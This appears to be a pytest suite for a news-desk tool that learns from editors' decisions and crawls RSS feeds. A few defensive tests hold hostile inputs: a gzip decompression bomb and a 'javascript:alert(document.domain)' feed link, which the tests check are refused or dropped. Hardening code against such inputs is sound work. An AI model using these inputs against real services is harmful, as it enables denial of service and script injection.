    # A decision or two on a source say nothing.
    few = second_source(db, "few")
    vesti.set_decisions(conn, [desk_post(conn, few, 500, text=GAMES[3], direction="space")],
                        "rejected", "ed")
    learners = vesti.Learners(10).refresh(conn, now=True)
    assert learners.model("space").source_weight({f"@{few}"}) == 0.0


def test_chances_stay_near_the_editors_rate_where_the_words_point_the_wrong_way():
    """Six subjects, each approved once and rejected twice, every post
    matching two keywords. Judged without its own decision, an approved post
    looks rejected (its words: 0 approved, 2 rejected) and a rejected one
    even: higher scores went with fewer approvals. The chances must stay
    near the editors' rate (a third), not turn into 'likely approved'."""
    model = vesti.Model("space")
    decided = []
    for subject in ("rocket launch delayed", "lunar lander landed", "comet tail glowed",
                    "mars rover drilled", "solar storm struck", "orbit station docked"):
        features = vesti.post_features("", subject, 1)
        decided += [(features, 2, True), (features, 2, False), (features, 2, False)]
    for features, _, approved in decided:
        model.learn(features, approved)
    model.calibrate(decided)
    for features, keywords, _ in decided:
        assert abs(model.likely(features, keywords) - 1 / 3) < 0.05


def space_desk_of_mixed_posts(home, rng):
    """120 posts of the space direction, of missions, games and festivals
    alike, of relevance 2 to 8, counted as a worker leaves them: (conn, the
    posts' ids, the ids on the default desk)."""
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10)
    conn = db.conn()
    texts = MISSIONS + GAMES + FESTIVALS
    posts = [desk_post(conn, wire, k, text=f"{rng.choice(texts)} Item {k}.", direction="space",
                       relevance=rng.choice((2, 3, 5, 8))) for k in range(120)]
    vesti.index_new_posts(conn)
    return conn, posts, [p.id for p in vesti.desk_posts(conn, vesti.DeskQuery(direction="space"), 500)]


@both
@pytest.mark.parametrize("share", [0.6, 0.85])
def test_decisions_that_carry_no_signal_leave_the_desk_as_keywords_made_it(home, share):
    """40 decisions at random, `share` of them approved: enough for a model,
    but its curve tells nothing apart, so it judges no post and lets no post
    in. Used, at 85 % it would give every post about 0.85 and lift those
    under the relevance floor onto the desk."""
    rng = random.Random(7)
    conn, posts, before = space_desk_of_mixed_posts(home, rng)
    decided = rng.sample(posts, 40)
    approved = round(share * len(decided))
    vesti.set_decisions(conn, decided[:approved], "approved", "ed")     # whatever they say
    vesti.set_decisions(conn, decided[approved:], "rejected", "ed")
    learners = vesti.Learners(10).refresh(conn, now=True)
    assert learners.ready("space") and learners.model("space") is None
    vesti.judge_every_card(conn, learners, "space")
    after = [p.id for p in vesti.desk_posts(conn, vesti.DeskQuery(direction="space"), 500)]
    undecided = set(posts) - set(decided)
    assert set(before) & undecided == set(after) & undecided
    assert counts_match_posts(conn)
    said = cli("learn", cwd=home, env={"VESTI_LEARN_MIN": "10"})
    assert "; not used: its decisions do not tell posts apart beyond chance (checked every 5 " \
           "decisions)" in said.stdout, said
    said = cli("quality", "--direction", "space", cwd=home, env={"VESTI_LEARN_MIN": "10"})
    assert "but they do not tell posts apart beyond chance: no card's chance comes from it" \
        in said.stdout, said


def test_a_chance_is_no_surer_than_the_decisions_it_rests_on(home):
    """Twelve decisions whose words split cleanly: a card that says the
    approved posts' words again is likely approved, but after 12 decisions
    no more than 13 in 14 (the rule of succession), and one that says the
    rejected posts' words again no less than 1 in 14 (the curve alone
    said 0.99 of the first). The order stays."""
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10)
    conn = db.conn()
    decided_space(conn, wire, MISSIONS, GAMES)
    learners = vesti.Learners(10).refresh(conn, now=True)
    sure = [learners.likely("space", vesti.post_features(text, text, wire), 2) for text in MISSIONS]
    unsure = [learners.likely("space", vesti.post_features(text, text, wire)) for text in GAMES]
    assert 0.75 <= max(sure) <= 13 / 14 and 1 / 14 <= min(unsure) <= 0.35, (sure, unsure)
    assert min(sure) > max(unsure)


@both
def test_every_third_decision_the_desk_asks_about_the_card_the_model_is_least_sure_of(web):
    conn = web.db.conn()
    wire = lwn(web)
    web.settings = web.settings.replace(learn_min=10)
    decided_space(conn, wire, MISSIONS, GAMES)                # 12 decisions: 12 % 3 == 0
    vesti.relearn_if_features_changed(conn)                 # of this release: chances kept
    cards = [desk_post(conn, wire, 600 + k, text=text, direction="space", minute=600 + k)
             for k, text in enumerate(MISSIONS + GAMES)]
    conn.execute("UPDATE posts SET likely = 0.9 WHERE id IN (%s)" % ",".join(map(str, cards[:6])))
    conn.execute("UPDATE posts SET likely = 0.4 WHERE id = ?", (cards[7],))      # nearest 0.5
    conn.execute("UPDATE posts SET likely = 0.1 WHERE id IN (%s)" % ",".join(map(str, cards[8:])))
    conn.execute("UPDATE posts SET likely = 0.3 WHERE id = ?", (cards[6],))

    def first():
        return json.loads(web.get("/api/posts?direction=space&limit=2")[2])["posts"]
    assert [p["unsure"] for p in first()] == [False, False]
    vesti.set_decisions(conn, [cards[0]], "approved", "ed")              # 13
    assert not first()[0]["unsure"]
    vesti.set_decisions(conn, [cards[1]], "approved", "ed")              # 14: the third
    asked = first()
    assert asked[0]["id"] == cards[7] and asked[0]["unsure"] and not asked[1]["unsure"]
    page = web.get("/?direction=space")[2]
    assert card_ids(page)[0] == cards[7] and "the model is unsure of this one" in page


def test_a_model_keeps_a_bounded_number_of_features_however_many_are_decided(home):
    """Past MODEL_FEATURES, the words of a single decided post go. Judged
    with its own decision left out (to calibrate), such a post leaves out
    nothing of a word the model no longer holds, even one the news in
    general has again."""
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10)
    conn = db.conn()
    decided_space(conn, wire, MISSIONS, GAMES)
    again = desk_post(conn, wire, 300, text=MISSIONS[0] + " Again.", direction="space")
    vesti.Learners(10).refresh(conn, now=True)          # the decisions counted
    noise = [("space", f"noise{k}", 0, 1, 1) for k in range(vesti.MODEL_FEATURES + 5000)]
    vesti.insert_rows(conn, "learned_words (direction, feature, approved, rejected, version)",
                      noise, "ON CONFLICT (direction, feature) DO NOTHING")
    conn.execute("UPDATE learners SET version = version + 1, epoch = epoch + 1")
    learners = vesti.Learners(10).refresh(conn, now=True)
    model = learners.model("space")
    assert model.floor == 2 and len(model.counts) <= vesti.MODEL_FEATURES
    assert model.counts["rocket"][0] == 6               # what the editors' posts share stays
    assert "weather" not in model.counts                # in one decided post only
    vesti.judge_every_card(conn, learners, "space")
    likely = post_row(conn, again)["likely"]
    assert 0 < likely < 1


FESTIVALS = ["The film festival gave its jury award to a documentary about the space station.",
             "Crowds filled the film festival for the premiere of the new space drama.",
             "The film festival jury praised the actors of the space station thriller.",
             "A documentary on the space station opened the film festival on Friday.",
             "The film festival sold out its screenings of the space documentary.",
             "Critics at the film festival called the space station drama the year's best."]


@both
def test_what_another_direction_approves_speaks_against_this_one(home):
    """The culture desk approving film festival news about space makes such
    news less likely wanted on the space desk: for it, that is news of
    another kind, like the news in general."""
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10)
    conn = db.conn()
    decided_space(conn, wire, MISSIONS, GAMES)
    ids = [desk_post(conn, wire, 400 + k, text=text, title=text[:30], direction="culture")
           for k, text in enumerate(FESTIVALS)]
    post = vesti.post_features("Space station film", "The rocket of the space agency and the "
                               "film festival's documentary about the space station.", wire)
    judge = vesti.Learners(10).refresh(conn, now=True)
    score, likely = judge.models["space"].score(post), judge.likely("space", post)
    vesti.set_decisions(conn, ids, "approved", "ed")
    judge.refresh(conn, now=True)                           # what changed, read on top
    assert judge.model("culture") is None                   # 6 decisions: not used itself
    assert judge.models["space"].score(post) < score and judge.likely("space", post) < likely
    mission = vesti.post_features("Rocket", MISSIONS[0], wire)
    assert judge.likely("space", mission) > 0.5
    vesti.set_decisions(conn, ids[:2], "new", "ed")         # two undone
    judge.refresh(conn, now=True)
    fresh = vesti.Learners(10).refresh(conn, now=True)
    assert (judge.approvals.counts, judge.approvals.total) == \
        (fresh.approvals.counts, fresh.approvals.total) == \
        (vesti.Approvals(fresh.models.values()).counts, 6 + 4)
    assert judge.models["space"].score(post) == fresh.models["space"].score(post)


@both
def test_the_news_in_general_is_read_once_per_move_of_its_mark_not_per_look(home):
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10)
    conn = db.conn()
    decided_space(conn, wire, MISSIONS, GAMES)
    learners = vesti.Learners(10).refresh(conn, now=True)
    background, calibrated = learners.background, learners.models["space"].calibrated_at
    assert background.docs > 0
    for _ in range(3):
        learners.refresh(conn, now=True)
    # Reading it costs the features of 2,000 posts; fitting the curve, every decision's.
    assert learners.background is background
    assert learners.models["space"].calibrated_at == calibrated


@both
def test_a_cards_chance_does_not_drop_when_the_news_in_general_takes_it_in(home):
    """A post is never evidence about itself: when the news in general moves
    on (every BACKGROUND_REFRESH) to take in the newest posts, a card it
    takes in keeps its chance, though its own rare words are now in the news
    in general. Judged with them counted against it, it dropped; and the
    decided posts the chances are fitted on, all in the news in general,
    made every new post's chance look surer than it was."""
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10)
    conn = db.conn()
    decided_space(conn, wire, MISSIONS, GAMES)
    card = desk_post(conn, wire, 500, direction="space", title="Europa probe",
                     text="The space agency's probe photographed Europa's icy geysers.")
    learners = vesti.Learners(10).refresh(conn, now=True)
    vesti.set_meta(conn, "learn_background", str(card - 1))
    learners.refresh(conn, now=True)

    def likely():
        row = post_row(conn, card)
        features = vesti.post_features(row["title"], row["text"], row["source_id"], card)
        return learners.likely("space", features, vesti.keyword_count(row["keywords"]))
    before = likely()
    assert card not in learners.background.posts and before > 0.5
    vesti.set_meta(conn, "learn_background", str(card))     # moved on: it takes the card in
    learners.refresh(conn, now=True)
    assert card in learners.background.posts
    assert likely() == pytest.approx(before, abs=0.01)


def test_the_llm_is_shown_the_editors_decisions_most_like_the_post(home, closing):
    fake = closing(FakeOllama())
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10, OLLAMA_URL=fake.url)
    conn = db.conn()
    decided_space(conn, wire, MISSIONS, GAMES)
    add_posts(conn, 1, source_id=wire, start=400,
              text="Rocket League esports team won the arena tournament final.")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    [(_, body)] = fake.requests
    shown = [m["content"] for m in body["messages"] if m["role"] == "system"][1]
    lines = shown.splitlines()[1:]
    assert 1 <= len(lines) <= 4 and all(len(line) <= 140 for line in lines)
    assert lines[0].startswith("- rejected: ") and "Rocket" in lines[0]   # a game, like it
    assert body["messages"][-1]["content"].startswith("Post 400")


# Sources ----------------------------------------------------------------------

def test_registry_loads_directions_and_sources(home):
    write_sources(home / "sources.yaml", [rss_source("lwn", "https://lwn.net/headlines/rss",
                                                     direction="linux", priority=0)])
    registry = vesti.load_registry(str(home / "sources.yaml"))
    assert registry.directions["linux"].keywords == ("linux", "kernel", "ядро")
    assert registry.sources[0] == vesti.SourceSpec("lwn", "lwn", "rss",
                                                   "https://lwn.net/headlines/rss",
                                                   "linux", 0, True)


def test_the_shipped_sources_yaml_is_valid(tmp_path):
    """The sources.yaml the repository ships, as committed: the working
    copy's is the newsroom's to edit, and no test reads it."""
    if shutil.which("git") is None:
        pytest.skip("no git here: the shipped sources.yaml is what git has committed")
    shipped = subprocess.run(["git", "-C", str(ROOT), "show", "HEAD:sources.yaml"],
                             capture_output=True, text=True, encoding="utf-8")
    if shipped.returncode != 0:
        pytest.skip(f"not a git checkout: {shipped.stderr.strip()}")
    (tmp_path / "sources.yaml").write_text(shipped.stdout, encoding="utf-8")
    registry = vesti.load_registry(str(tmp_path / "sources.yaml"))
    assert registry.directions and [s for s in registry.sources if s.enabled]


@pytest.mark.slow
@pytest.mark.parametrize("text,expected", [
    ("sources:\n  - slug: a\n    url: [unclosed\n", "sources.yaml:4: YAML syntax error"),
    ("sources:\n  - slug: a\n    crawler: rss\n", "sources.yaml:2: source 'a': missing field 'url'"),
    ("sources:\n  - {slug: a, crawler: rss, url: 'http://x/'}\n"
     "  - {slug: a, crawler: rss, url: 'http://y/'}\n",
     "sources.yaml:3: source 'a': duplicate slug (first at line 2)"),
    ("sources:\n  - {slug: a, crawler: atom, url: 'http://x/'}\n",
     "sources.yaml:2: source 'a': unknown crawler 'atom'"),
    ("directions: {}\nsources:\n  - {slug: a, crawler: rss, url: 'http://x/', direction: sport}\n",
     "sources.yaml:3: source 'a': unknown direction 'sport'"),
    ("sources:\n  - {slug: A B, crawler: rss, url: 'http://x/'}\n", "source 'A B': slug may"),
    ("sources:\n  - {slug: a, crawler: rss, url: 'http://x/', enable: false}\n",
     "sources.yaml:2: source 'a': unknown field 'enable'"),
    ("sources:\n  - slug: a\n    crawler: rss\n    url: http://x/\n    url: http://y/\n",
     "sources.yaml:5: 'url' is given twice"),
    ("directions:\n  x: {title: X, keywords: ['*']}\nsources: []\n",
     "sources.yaml:2: direction 'x': keyword '*' has no letters or digits"),
])
def test_a_broken_sources_yaml_stops_every_command_naming_file_line_and_problem(home, text, expected):
    (home / "sources.yaml").write_text(text)
    commands = (["init"], ["status"], ["rss", "--all"], ["worker"], ["crawl", "--all"]) \
        if "unclosed" in text else (["status"],)
    for command in commands:
        result = cli(*command, cwd=home)
        assert result.returncode == 2, result.stderr
        assert expected in result.stderr
        assert result.stderr.count("\n") == 1
    assert not (home / "vesti.db").exists() or \
        sqlite3.connect(home / "vesti.db").execute("SELECT count(*) FROM sources").fetchone()[0] == 0


def test_a_directory_as_sources_file_is_a_one_line_error(home):
    (home / "conf").mkdir()
    result = cli("--sources", "conf", "init", cwd=home)
    assert result.returncode == 2 and result.stderr.count("\n") == 1
    assert "conf: cannot read" in result.stderr


@both
def test_sync_upserts_by_slug_keeps_health_and_disables_removed_sources(home):
    s, db = intake(home, [rss_source("a", "http://a.test/feed", priority=1),
                          rss_source("b", "http://b.test/feed")])
    db.conn().execute("UPDATE sources SET status = 'dead', error_count = 6, last_error = 'boom' "
                      "WHERE slug = 'a'")
    write_sources(home / "sources.yaml", [rss_source("a", "http://a.test/feed", priority=2,
                                                     name="Renamed")])
    vesti.sync_sources(db.conn(), vesti.load_registry(str(home / "sources.yaml")))
    a, b = source_row(db, "a"), source_row(db, "b")
    assert (a["name"], a["priority"], a["status"], a["error_count"], a["last_error"]) == \
        ("Renamed", 2, "dead", 6, "boom")
    assert b["enabled"] == 0


# Fetching and RSS -------------------------------------------------------------

@both
def test_a_feed_is_crawled_into_the_queue(home, server):
    server.feed("/feed", rss(items(3, host=server.url)))
    s, db = intake(home, [rss_source("lwn", server.url + "/feed", direction="linux")])
    summary = crawl(s, db)
    assert summary.new_posts == 3
    posts = posts_of(db, "lwn")[::-1]           # stored last to first: the feed's first is newest
    assert [p["title"] for p in posts] == ["Post number 0", "Post number 1", "Post number 2"]
    assert {(p["classified"], p["direction"], p["status"]) for p in posts} == {(0, "linux", "new")}
    assert posts[0]["canonical_url"] == server.url + "/post/0"
    assert posts[0]["published_at"] == posts[0]["fetched_at"]      # no date in the entry
    assert posts[0]["undated"] == 1
    state = state_row(db, "lwn")
    assert (state["etag"], state["modified"], state["last_build_date"]) == \
        ('"v1"', "Mon, 30 Nov 2026 10:00:00 GMT", "Mon, 30 Nov 2026 10:00:00 GMT")
    run = runs_of(db, "lwn")[-1]
    assert (run["task"], run["trigger"], run["status"], run["new_posts"]) == ("rss", "cli", "ok", 3)
    assert server.sent("/feed")[0]["User-Agent"] == s.user_agent


@both
def test_second_crawl_sends_validators_gets_304_and_stores_nothing(home, server):
    server.feed("/feed", rss(items(3, host=server.url)))
    s, db = intake(home, [rss_source("lwn", server.url + "/feed")])
    crawl(s, db)
    summary = crawl(s, db)
    sent = server.sent("/feed")[-1]
    assert sent["If-None-Match"] == '"v1"'
    assert sent["If-Modified-Since"] == "Mon, 30 Nov 2026 10:00:00 GMT"
    assert summary.new_posts == 0 and len(posts_of(db, "lwn")) == 3
    assert state_row(db, "lwn")["status"] == "not_modified"
    assert runs_of(db, "lwn")[-1]["status"] == "ok"


@both
def test_a_changed_feed_adds_only_the_new_entries(home, server):
    server.feed("/feed", rss(items(3, host=server.url)), etag='"v1"')
    s, db = intake(home, [rss_source("lwn", server.url + "/feed")])
    crawl(s, db)
    server.feed("/feed", rss(items(5, host=server.url)), etag='"v2"')
    assert crawl(s, db).new_posts == 2
    assert len(posts_of(db, "lwn")) == 5


@both
def test_a_200_with_an_unchanged_body_is_not_parsed_again(home, server, monkeypatch):
    server.feed("/feed", rss(items(3, host=server.url)), etag=None, modified=None)
    s, db = intake(home, [rss_source("lwn", server.url + "/feed")])
    crawl(s, db)

    def parse_feed(*args, **kwargs):
        raise AssertionError("parsed again")
    monkeypatch.setattr(vesti, "parse_feed", parse_feed)
    summary = crawl(s, db)
    assert summary.results[0].status == "unchanged"
    assert source_row(db, "lwn")["last_error"] is None


@pytest.mark.parametrize("encoding", ["gzip", "deflate"])
def test_compressed_feeds_are_decoded(home, server, encoding):
    server.feed("/feed", rss(items(4, host=server.url)), encoding=encoding)
    s, db = intake(home, [rss_source("lwn", server.url + "/feed")])
    assert crawl(s, db).new_posts == 4
    assert "gzip" in server.sent("/feed")[0]["Accept-Encoding"]


@both
def test_a_permanent_redirect_is_followed_shown_and_used_next_time(home, server):
    server.feed("/new", rss(items(2, host=server.url)))
    server.redirect("/old", 301, "/new")
    s, db = intake(home, [rss_source("lwn", server.url + "/old")])
    assert crawl(s, db).new_posts == 2
    assert state_row(db, "lwn")["moved_to"] == server.url + "/new"
    assert vesti.status_report(db.conn())["sources"][0]["moved_to"] == server.url + "/new"
    crawl(s, db)
    assert len(server.sent("/old")) == 1 and len(server.sent("/new")) == 2
    assert source_row(db, "lwn")["url"] == server.url + "/old"   # sources.yaml stays the word


@both
def test_a_temporary_redirect_is_followed_but_never_stored(home, server):
    server.feed("/today", rss(items(2, host=server.url)))
    server.redirect("/feed", 302, "/today")
    s, db = intake(home, [rss_source("lwn", server.url + "/feed")])
    assert crawl(s, db).new_posts == 2
    assert state_row(db, "lwn")["moved_to"] is None
    crawl(s, db)
    assert len(server.sent("/feed")) == 2


def test_a_redirect_loop_is_an_error(home, server):
    server.redirect("/a", 302, "/b")
    server.redirect("/b", 302, "/a")
    s, db = intake(home, [rss_source("loop", server.url + "/a")])
    crawl(s, db)
    assert "redirects" in source_row(db, "loop")["last_error"]
    assert len(server.requests) == 6


@pytest.mark.parametrize("code,error", [(404, "HTTP 404 Not Found"),
                                        (500, "HTTP 500 Internal Server Error"),
                                        (503, "HTTP 503 Service Unavailable"),
                                        (429, "HTTP 429 Too Many Requests")])
def test_http_errors_are_recorded_and_counted(home, server, code, error):
    server.status("/feed", code)
    s, db = intake(home, [rss_source("x", server.url + "/feed")])
    crawl(s, db)
    row = source_row(db, "x")
    assert (row["status"], row["error_count"], row["last_error"]) == ("alive", 1, error)
    assert row["last_fetch"] is not None
    assert runs_of(db, "x")[-1]["error"] == error


def test_a_retry_after_of_centuries_waits_a_day_at_most(home, server):
    server.status("/feed", 429, {"Retry-After": "99999999999999"})
    s, db = intake(home, [rss_source("x", server.url + "/feed")])
    crawl(s, db)
    assert source_row(db, "x")["next_fetch_at"] <= vesti.utc_text(time.time() + 86401)


def test_numbers_in_a_feeds_headers_that_are_not_ascii_digits_are_not_numbers(home, server):
    """'²' is a digit to Python's str.isdigit but no number to int(): a
    Retry-After or Content-Length of it is unreadable, not an internal error."""
    server.status("/feed", 429, {"Retry-After": "²"})
    s, db = intake(home, [rss_source("x", server.url + "/feed")])
    crawl(s, db)
    row = source_row(db, "x")
    assert "internal error" not in row["last_error"] and "429" in row["last_error"], \
        row["last_error"]
    assert vesti.retry_after_seconds("²") is None and vesti.retry_after_seconds(" 120 ") == 120

    def unreadable_length(request):
        request.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n"
                            b"Content-Length: \xb2\r\nConnection: close\r\n\r\n" + rss(items(2)))
        request.close_connection = True
    server.routes["/feed"] = unreadable_length
    crawl(s, db, ("source", "x"))
    row = source_row(db, "x")
    assert (row["error_count"], row["last_error"]) == (0, None) and len(posts_of(db, "x")) == 2


@both
def test_410_gone_marks_the_source_dead_at_once(home, server):
    server.status("/feed", 410)
    s, db = intake(home, [rss_source("x", server.url + "/feed")])
    crawl(s, db)
    assert source_row(db, "x")["status"] == "dead"


@both
def test_429_with_retry_after_defers_the_source_without_counting_an_error(home, server):
    server.status("/feed", 429, {"Retry-After": "3600"})
    s, db = intake(home, [rss_source("x", server.url + "/feed")])
    crawl(s, db)
    row = source_row(db, "x")
    assert (row["status"], row["error_count"]) == ("alive", 0)
    assert "retry after 3600 s" in row["last_error"]
    assert row["next_fetch_at"] > vesti.utc_text(time.time() + 3500)
    waited = crawl(s, db)                          # --all waits as asked, and says so
    assert len(server.sent("/feed")) == 1
    assert waited.line() == "0 sources (0 ok, 0 deferred, 0 failed), 0 new posts; 1 more not " \
        "due yet (see status)"
    crawl(s, db, ("source", "x"))                  # --source fetches at once
    assert len(server.sent("/feed")) == 2


@both
def test_five_errors_make_a_source_dead_with_one_warning_and_one_success_revives_it(
        home, server, caplog):
    server.status("/feed", 500)
    s, db = intake(home, [rss_source("x", server.url + "/feed")])
    with caplog.at_level(logging.INFO, logger="vesti"):
        for _ in range(7):
            crawl(s, db, ("source", "x"))
    row = source_row(db, "x")
    assert (row["status"], row["error_count"]) == ("dead", 7)
    warnings = [r for r in caplog.records if r.levelno >= logging.WARNING]
    assert len(warnings) == 1 and "dead" in warnings[0].getMessage()
    server.feed("/feed", rss(items(1, host=server.url)))
    caplog.clear()
    with caplog.at_level(logging.WARNING, logger="vesti"):
        crawl(s, db, ("source", "x"))
    row = source_row(db, "x")
    assert (row["status"], row["error_count"], row["last_error"]) == ("alive", 0, None)
    assert ["alive again" in r.getMessage() for r in caplog.records] == [True]


@both
def test_dead_sources_are_still_probed_by_all_with_a_doubling_backoff(home, server):
    server.status("/feed", 500)
    s, db = intake(home, [rss_source("x", server.url + "/feed")], RSS_DEAD_AFTER=2)
    for expected_wait in (3600, 3600, 7200, 14400):
        crawl(s, db, ("source", "x"))
        row = source_row(db, "x")
    assert row["status"] == "dead"
    fetched = vesti.time.mktime(time.strptime(row["last_fetch"], "%Y-%m-%d %H:%M:%S"))
    due = vesti.time.mktime(time.strptime(row["next_fetch_at"], "%Y-%m-%d %H:%M:%S"))
    assert due - fetched == 14400
    crawl(s, db)                                  # not due: --all leaves it alone
    assert len(server.sent("/feed")) == 4
    db.conn().execute("UPDATE sources SET next_fetch_at = '2000-01-01 00:00:00'")
    server.feed("/feed", rss(items(1, host=server.url)))
    crawl(s, db)                                  # due: probed and revived
    assert source_row(db, "x")["status"] == "alive"


def test_the_dead_probe_backoff_stops_doubling_at_a_day(home, server):
    server.status("/feed", 500)
    s, db = intake(home, [rss_source("x", server.url + "/feed")], RSS_DEAD_AFTER=1)
    db.conn().execute("UPDATE sources SET status = 'dead', error_count = 30")
    crawl(s, db, ("source", "x"))
    row = source_row(db, "x")
    fetched = time.mktime(time.strptime(row["last_fetch"], "%Y-%m-%d %H:%M:%S"))
    due = time.mktime(time.strptime(row["next_fetch_at"], "%Y-%m-%d %H:%M:%S"))
    assert due - fetched == 86400


def test_a_body_over_the_cap_is_refused(home, server):
    server.feed("/feed", rss(items(60, host=server.url)))
    s, db = intake(home, [rss_source("x", server.url + "/feed")], RSS_MAX_BYTES=5000)
    crawl(s, db)
    assert "over the limit of 5000 bytes" in source_row(db, "x")["last_error"]
    assert posts_of(db, "x") == []


@pytest.mark.slow
def test_a_gzip_bomb_is_refused_without_eating_memory(home, server):
    bomb = gzip.compress(b"\0" * (200 * 1024 * 1024), compresslevel=9)    # 200 MB -> 200 KB
    server.routes["/feed"] = lambda request: (200, {"Content-Encoding": "gzip",
                                                    "Content-Type": "application/xml"}, bomb)
    s, db = intake(home, [rss_source("x", server.url + "/feed")], RSS_MAX_BYTES=1_000_000)
    crawl(s, db)
    assert "over the limit of 1000000 bytes" in source_row(db, "x")["last_error"]


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "raw deflate"])
def test_a_compressed_feed_many_times_its_size_is_decoded_whole(home, server, encoding):
    # Each read of the body inflates to many times the most that is
    # inflated at once: every piece must arrive, the last item included.
    entries = [{"guid": f"post-{k}", "link": f"{server.url}/post/{k}", "title": f"Post number {k}",
                "text": f"Article {k}. " + "The same sentence again. " * 4000} for k in range(40)]
    body = rss(entries)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS if encoding == "raw deflate"
                               else 16 + zlib.MAX_WBITS if encoding == "gzip" else zlib.MAX_WBITS)
    data = deflate.compress(body) + deflate.flush()
    assert len(body) > 100 * len(data) and len(body) > 10 * vesti._Decoder.STEP
    server.routes["/feed"] = lambda request: (
        200, {"Content-Encoding": encoding.split()[-1], "Content-Type": "application/rss+xml"}, data)
    s, db = intake(home, [rss_source("lwn", server.url + "/feed")])
    assert crawl(s, db).new_posts == 40
    assert source_row(db, "lwn")["last_error"] is None
    assert "Post number 39" in {post["title"] for post in posts_of(db, "lwn")}


def test_refusing_a_gzip_bomb_holds_about_the_limit_in_memory(home, server, request):
    bomb = gzip.compress(b"\0" * (64 << 20), compresslevel=9)
    server.routes["/feed"] = lambda request: (200, {"Content-Encoding": "gzip"}, bomb)
    s = make_settings(home, RSS_MAX_BYTES=4_000_000)
    tracemalloc.start()
    request.addfinalizer(tracemalloc.stop)
    with pytest.raises(vesti.FetchError, match="over the limit of 4000000 bytes"):
        vesti.http_get(server.url + "/feed", s)
    peak = tracemalloc.get_traced_memory()[1]
    assert peak < 1.25 * 4_000_000


def test_a_server_that_never_answers_times_out(home, server):
    release = threading.Event()
    server.routes["/feed"] = lambda request: release.wait(10) and None
    s, db = intake(home, [rss_source("x", server.url + "/feed")], RSS_TIMEOUT=0.3)
    started = time.monotonic()
    crawl(s, db)
    release.set()
    assert time.monotonic() - started < 5
    assert source_row(db, "x")["last_error"] == "timed out"


def test_a_server_that_drips_bytes_is_cut_off_at_three_timeouts(home, server):
    def drip(request):
        request.send_response(200)
        request.send_header("Content-Length", "100000")
        request.end_headers()
        with contextlib.suppress(OSError):
            for _ in range(100):
                request.wfile.write(b" ")
                request.wfile.flush()
                time.sleep(0.1)
    server.routes["/feed"] = drip
    s, db = intake(home, [rss_source("x", server.url + "/feed")], RSS_TIMEOUT=0.3)
    started = time.monotonic()
    crawl(s, db)
    assert time.monotonic() - started < 3
    assert source_row(db, "x")["last_error"] == "response took longer than 0.9 s"


def test_a_connection_refused_is_recorded(home):
    s, db = intake(home, [rss_source("x", "http://127.0.0.1:9/feed")])
    crawl(s, db)
    assert source_row(db, "x")["last_error"] == "connection refused"


def test_an_html_page_at_a_feed_url_is_an_error_that_stores_nothing(home, server):
    page = (CORPUS / "feeds" / "illformed" / "feedjira-2009" / "SFRubyorgHome.xml").read_bytes()
    server.feed("/feed", page, content_type="text/html")
    s, db = intake(home, [rss_source("x", server.url + "/feed")])
    crawl(s, db)
    assert source_row(db, "x")["last_error"].startswith("not a feed")
    assert posts_of(db, "x") == []


def test_entries_beyond_rss_max_entries_are_not_taken(home, server):
    server.feed("/feed", rss(items(30, host=server.url)))
    s, db = intake(home, [rss_source("x", server.url + "/feed")], RSS_MAX_ENTRIES=10)
    crawl(s, db)
    assert {p["title"] for p in posts_of(db, "x")} == {f"Post number {k}" for k in range(10)}


@both
def test_summary_only_entries_are_marked_for_phase_3(home, server):
    long_text = "<p>" + "A full paragraph of the article. " * 40 + "</p>"
    server.feed("/feed", rss([{"guid": "a", "link": server.url + "/a", "text": "Short teaser."},
                              {"guid": "b", "link": server.url + "/b", "text": long_text}]))
    s, db = intake(home, [rss_source("x", server.url + "/feed")])
    crawl(s, db)
    assert [(p["content_type"], "<p>" in p["text"]) for p in
            sorted(posts_of(db, "x"), key=lambda p: p["url"])] == [("summary", False), ("full", False)]


@both
def test_entry_dates_become_utc_published_at(home, server):
    server.feed("/feed", rss([{"guid": "a", "link": server.url + "/a",
                               "date": "Mon, 30 Nov 2026 12:30:00 +0300"},
                              {"guid": "b", "link": server.url + "/b",
                               "date": "Fri, 01 Jan 2100 00:00:00 GMT"}]))
    s, db = intake(home, [rss_source("x", server.url + "/feed")])
    crawl(s, db)
    posts = {p["url"].rsplit("/", 1)[1]: p for p in posts_of(db, "x")}
    assert (posts["a"]["published_at"], posts["a"]["undated"]) == ("2026-11-30 09:30:00", 0)
    # A date far in the future is no date: the entry is undated, at its fetch time.
    assert (posts["b"]["published_at"], posts["b"]["undated"]) == (posts["b"]["fetched_at"], 1)


def test_plain_text_titles_keep_their_angle_brackets(home, server):
    body = (b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>'
            b'<item><title>Rust: why Vec&lt;T&gt; beats Box&lt;[T]&gt;</title>'
            b'<link>http://a.example/1</link><description>&lt;p&gt;An &lt;b&gt;HTML&lt;/b&gt; '
            b'summary&lt;/p&gt;</description></item></channel></rss>')
    server.feed("/feed", body)
    s, db = intake(home, [rss_source("x", server.url + "/feed")])
    crawl(s, db)
    post = posts_of(db, "x")[0]
    assert (post["title"], post["text"]) == ("Rust: why Vec<T> beats Box<[T]>", "An HTML summary")


def test_a_javascript_link_is_never_stored_as_a_link(home, server):
    server.feed("/feed", rss([{"guid": "a", "link": "javascript:alert(document.domain)",
                               "text": "A post with a hostile link and enough text to count."}]))
    s, db = intake(home, [rss_source("x", server.url + "/feed")])
    crawl(s, db)
    post = posts_of(db, "x")[0]
    assert (post["url"], post["canonical_url"]) == (None, None)


def test_relative_links_are_resolved_against_the_feed(home, server):
    server.feed("/blog/feed", rss([{"guid": "a", "link": "../post/1?utm_source=rss"}]))
    s, db = intake(home, [rss_source("x", server.url + "/blog/feed")])
    crawl(s, db)
    assert posts_of(db, "x")[0]["canonical_url"] == server.url + "/post/1"


@both
def test_sources_are_fetched_in_priority_order(home, server):
    for slug in "abc":
        server.feed(f"/{slug}", rss(items(1, host=server.url + "/" + slug)))
    s, db = intake(home, [rss_source("a", server.url + "/a", priority=2),
